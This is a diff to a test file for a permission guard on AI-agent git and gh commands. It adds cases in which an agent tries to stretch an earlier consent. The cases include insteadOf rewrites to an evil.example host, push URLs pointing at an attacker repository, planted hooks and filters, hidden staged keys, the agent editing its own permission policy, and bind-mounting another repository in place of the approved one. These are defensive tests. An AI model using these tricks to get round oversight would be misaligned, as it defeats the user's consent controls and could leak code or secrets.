@@ -1,10 +1,23 @@
-import { type ChildProcess, spawn } from "node:child_process";
+import { type ChildProcess, spawn, spawnSync } from "node:child_process";
 import { once } from "node:events";
-import { chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it, onTestFinished } from "vitest";
+import { DIST } from "../../scratch.ts";
 import { KEY, LINES } from "./attack-lines.ts";
 import { everyConsent, MEANT, otherRepository, PORT, testRepository, type TestRepository } from "./repository.ts";
+
+const INSTEAD = '[url "git@evil.example:"]\n\tinsteadOf = git@github.com:\n';
+
+function upstream(git: TestRepository["git"], branch: string): void {
+  git("config", "branch.topic.remote", "origin");
+  git("config", "branch.topic.merge", `refs/heads/${branch}`);
+}
+
+function rewritePolicy(home: string, more: object): void {
+  const file = join(home, ".agent-permissions.jsonc");
+  writeFileSync(file, JSON.stringify({ ...(JSON.parse(readFileSync(file, "utf8")) as object), ...more }));
+}
 
 /** An agent has every consent, and wants more. INVARIANT: none of it goes ahead. */
 /** What the agent has done before, in the repository or outside of it; then it pushes, or comments. */
@@ -156,6 +169,97 @@ const PREPARED: readonly (readonly [what: string, prepare: (at: TestRepository) 
     ({ project }) => (writeFileSync(join(project, "git"), "#!/bin/sh\n"), chmodSync(join(project, "git"), 0o755)),
     "PATH=.:$PATH git push origin topic",
   ],
+  ...(
+    [
+      ["a workflow that is not added yet", ({ write }) => write(".github/workflows/x.yml", "on: push\n")],
+      ["a workflow that is changed", ({ write }) => write(".github/workflows/ci.yml", "on: push\nrun: evil\n")],
+      ["a workflow, staged", ({ git, write }) => (write("Jenkinsfile", "x\n"), git("add", "Jenkinsfile"))],
+      ["a key in a new file", ({ write }) => write("b.txt", `token = ${KEY}\n`)],
+      ["a key in a changed file", ({ write }) => write("README.md", `token = ${KEY}\n`)],
+      [
+        "a key that is staged, and gone again",
+        ({ git, write }) => (write("README.md", `${KEY}\n`), git("add", "README.md"), write("README.md", "x\n")),
+      ],
+      [
+        "a key that is staged, and taken for unchanged",
+        ({ git, write }) => (
+          write("README.md", `${KEY}\n`),
+          git("add", "README.md"),
+          git("update-index", "--assume-unchanged", "README.md"),
+          write("README.md", "# shop\n")
+        ),
+      ],
+      ["a key as a link", ({ project }) => symlinkSync(KEY, join(project, "link"))],
+      ["a key in a file said to be binary", ({ write }) => (write(".gitattributes", "* -diff\n"), write("b.txt", `${KEY}\n`))],
+      ["a secret that is not ignored", ({ write }) => write("config/.env", "A=b\n")],
+      ["a secret that is staged", ({ git, write }) => (write(".gitignore", ".env\n"), write(".env", "A=b\n"), git("add", "-f", ".env"))],
+      ["more than is looked through", ({ write }) => write("big.bin", "a".repeat(9 << 20))],
+      ["a pre-commit hook", ({ write }) => chmodSync(write(".git/hooks/pre-commit", "#!/bin/sh\n"), 0o755)],
+      ["a commit-msg hook", ({ write }) => chmodSync(write(".git/hooks/commit-msg", "#!/bin/sh\n"), 0o755)],
+      [
+        "a filter of the user's",
+        ({ write }) => (write("~/.gitconfig", '[filter "x"]\n\tclean = ./x\n'), write(".gitattributes", "* filter=x\n")),
+      ],
+      ["a filter", ({ git }) => git("config", "filter.x.clean", "./x")],
+      ["signing", ({ git }) => git("config", "commit.gpgSign", "true")],
+      ["an editor", ({ git }) => git("config", "core.editor", "./x")],
+      ["a repository below", ({ git, project }) => git("init", "-q", join(project, "sub"))],
+      ["a submodule", ({ git }) => git("update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},sub`)],
+      ["asking", ({ home }) => rewritePolicy(home, { unknown: "ask" })],
+      ["only logging", ({ home }) => rewritePolicy(home, { unknown: "confine-log" })],
+    ] as const satisfies readonly (readonly [string, (at: TestRepository) => unknown])[]
+  ).map(([what, prepare]): (typeof PREPARED)[number] => [
+    `committed before: ${what}`,
+    (at) => (at.write("a.txt", "x\n"), prepare(at)),
+    "git add -A && git commit -m done && git push origin topic",
+  ]),
+  ["an include of the user's", ({ write }) => (write("~/more", INSTEAD), write("~/.gitconfig", "[include]\n\tpath = ~/more\n"))],
+  [
+    "an include of the user's for this branch",
+    ({ write }) => (write("~/more", INSTEAD), write("~/.gitconfig", '[includeIf "onbranch:topic"]\n\tpath = ~/more\n')),
+  ],
+  ["the other file of the user's", ({ write }) => write("~/.config/git/config", INSTEAD)],
+  [
+    "a configuration that is a link",
+    ({ project, write }) => (
+      write("~/config", `[core]\n\tbare = false\n[remote "origin"]\n\turl = git@github.com:evil/shop.git\n`),
+      rmSync(join(project, ".git/config")),
+      symlinkSync("../../config", join(project, ".git/config"))
+    ),
+  ],
+  [
+    "a repository that is a link to another",
+    ({ project, git, home }) => {
+      const other = otherRepository({ home, git }, "other");
+      git("-C", other, "remote", "add", "origin", "git@github.com:acme/shop.git");
+      git("-C", other, "branch", "topic");
+      renameSync(join(project, ".git"), join(project, "../git"));
+      symlinkSync(join(other, ".git"), join(project, ".git"));
+    },
+  ],
+  [
+    "in a submodule",
+    ({ git, project, home }) => (
+      otherRepository({ home, git }, "part"),
+      git("-c", "protocol.file.allow=always", "submodule", "add", "-q", join(home, "code/part"), "part"),
+      git("-C", join(project, "part"), "remote", "set-url", "origin", "git@github.com:acme/shop.git"),
+      git("-C", join(project, "part"), "checkout", "-qb", "topic")
+    ),
+    "git -C part push origin topic",
+  ],
+  ["simple, to a branch of another name", ({ git }) => (git("config", "push.default", "simple"), upstream(git, "main")), "git push"],
+  ["nothing by default", ({ git }) => (git("config", "push.default", "nothing"), upstream(git, "topic")), "git push"],
+  ["tracking, an old word", ({ git }) => (git("config", "push.default", "tracking"), upstream(git, "main")), "git push"],
+  [
+    "pushRemote, an address",
+    ({ git }) => (upstream(git, "topic"), git("config", "branch.topic.pushRemote", "git@github.com:evil/shop.git")),
+    "git push",
+  ],
+  [
+    "pushDefault of the user's, an address",
+    ({ git, write }) => (upstream(git, "topic"), write("~/.gitconfig", "[remote]\n\tpushDefault = git@github.com:evil/shop.git\n")),
+    "git push",
+  ],
   ["gh: set-url", ({ git }) => git("remote", "set-url", "origin", "git@github.com:evil/shop.git"), "gh pr comment 1 --body x"],
   ["gh: a second remote", ({ git }) => git("remote", "add", "upstream", "git@github.com:evil/shop.git"), "gh pr comment 1 --body x"],
   ["gh: gh-resolved", ({ git }) => git("config", "remote.origin.gh-resolved", "evil/shop"), "gh pr comment 1 --body x"],
@@ -281,3 +385,56 @@ describe("a port is its program's", () => {
     expect(at.offered(command).why).toBe("it is not known which program listens there");
   });
 });
+
+/** In namespaces of its own, whoever is root in them can mount. */
+const UNSHARE = ["-m", ...(process.getuid?.() === 0 ? [] : ["-r"])];
+const CAN_MOUNT = spawnSync("unshare", [...UNSHARE, "true"]).status === 0;
+
+describe.skipIf(!CAN_MOUNT)("what is mounted in its place between the yes and the command", () => {
+  /** What it rests on (`grant`: on what was said once) where `from` is mounted over `over`; without: where nothing is. */
+  function saidWith(at: TestRepository, command: string, from = "", over = ""): string {
+    const script = 'if [ -n "$1" ]; then mount --bind "$1" "$2" || exit 9; fi; shift 2; exec "$@"';
+    const words = ["explain", "--json", command];
+    const { stdout, status } = spawnSync(
+      "unshare",
+      [...UNSHARE, "sh", "-c", script, "sh", from, over, process.execPath, join(DIST, "bin.cjs"), ...words],
+      { cwd: at.project, env: { PATH: "/usr/bin:/bin", HOME: at.home }, encoding: "utf8" },
+    );
+    expect([status, stdout]).not.toContain(9);
+    return /"basis": ?"(\w+)"/.exec(stdout)?.[1] ?? stdout;
+  }
+  const PUSH = "git push origin topic";
+  const COMMIT = "git -C ~/code/lib commit -m done";
+
+  it.each<readonly [what: string, command: string, over: (at: TestRepository) => string, from: (at: TestRepository) => string]>([
+    ["another repository", PUSH, ({ project }) => project, (at) => withOrigin(at, "git@github.com:evil/shop.git")],
+    ["another repository with the same remote", PUSH, ({ project }) => project, (at) => withOrigin(at, "git@github.com:acme/shop.git")],
+    ["another `.git`", PUSH, ({ project }) => join(project, ".git"), (at) => join(withOrigin(at, "git@github.com:evil/shop.git"), ".git")],
+    [
+      "another configuration",
+      PUSH,
+      ({ project }) => join(project, ".git/config"),
+      (at) => at.write("~/config", '[remote "origin"]\n\turl = git@github.com:acme/shop.git\n\tpushurl = git@github.com:evil/shop.git\n'),
+    ],
+    [
+      "other hooks",
+      PUSH,
+      ({ project }) => join(project, ".git/hooks"),
+      (at) => (chmodSync(at.write("~/hooks/pre-push", "#!/bin/sh\n"), 0o755), join(at.home, "hooks")),
+    ],
+    ["another folder", COMMIT, ({ home }) => join(home, "code/lib"), (at) => otherRepository(at, "other")],
+    ["another `.git` of the folder", COMMIT, ({ home }) => join(home, "code/lib/.git"), (at) => join(otherRepository(at, "other"), ".git")],
+  ])("%s: %s goes ahead no more as it was", (_, command, over, from) => {
+    const at = testRepository();
+    everyConsent(at, [command]);
+    expect(saidWith(at, command)).toBe("grant");
+    expect(saidWith(at, command, from(at), over(at))).not.toBe("grant");
+  });
+});
+
+function withOrigin(at: TestRepository, address: string): string {
+  const other = otherRepository(at, "other");
+  at.git("-C", other, "remote", "add", "origin", address);
+  at.git("-C", other, "branch", "topic");
+  return other;
+}
